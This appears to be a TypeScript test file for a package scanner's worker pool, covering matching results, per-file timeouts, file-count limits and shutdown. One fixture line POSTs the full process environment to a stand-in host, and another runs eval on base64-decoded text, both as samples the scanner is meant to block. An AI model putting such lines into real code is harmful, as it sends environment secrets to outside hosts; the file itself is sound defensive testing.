import assert from "node:assert/strict";
import test from "node:test";

import { ScanPool, scanPackage } from "@berth/scanner";

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const files = [
  { path: "manifest.json", bytes: bytesOf('{"id":"acme.a","version":"1.0.0","permissions":[]}') },
  {
    path: "a.js",
    bytes: bytesOf('fetch("https://drop.example.invalid", { method: "POST", body: JSON.stringify(process.env) });'),
  },
  { path: "b.js", bytes: bytesOf("export const two = 2;") },
];

test("threads answer what the calling thread would have answered", async (context) => {
  const pool = new ScanPool(2);
  context.after(() => pool.dispose());
  assert.deepEqual(await pool.scanPackage("a", files), scanPackage("a", files));
});

test("a file that takes too long is a finding, and its thread is replaced", async (context) => {
  const pool = new ScanPool(1);
  context.after(() => pool.dispose());
  const long = { path: "long.js", bytes: bytesOf("export const x = [" + "f(1, 2),".repeat(200_000) + "];") };
  const [slow, next] = await Promise.all([
    pool.scanFile(long, { limits: { fileTimeoutMs: 20 } }),
    pool.scanFile({ path: "b.js", bytes: bytesOf('eval(atob("MQ=="));') }),
  ]);
  assert.deepEqual(
    slow.findings.map(({ rule }) => rule),
    ["leaves-unscanned"],
  );
  assert.match(slow.findings[0]?.message ?? "", /longer than 20 ms/u);
  assert.equal(next.verdict, "block");
});

test("more than the limits allow is said, not skipped in silence", async (context) => {
  const pool = new ScanPool(1);
  context.after(() => pool.dispose());
  const many = Array.from({ length: 20 }, (_, index) => ({ path: `f${index}.js`, bytes: bytesOf("1;") }));
  const result = await pool.scanPackage("many", many, { limits: { files: 5 } });
  assert.match(result.findings[0]?.message ?? "", /15 files beyond the limit/u);
});

test("refuses work after its end", async () => {
  const pool = new ScanPool(1);
  await pool.dispose();
  await assert.rejects(pool.scanFile({ path: "a.js", bytes: bytesOf("1") }), { code: "SCAN_POOL_CLOSED" });
});
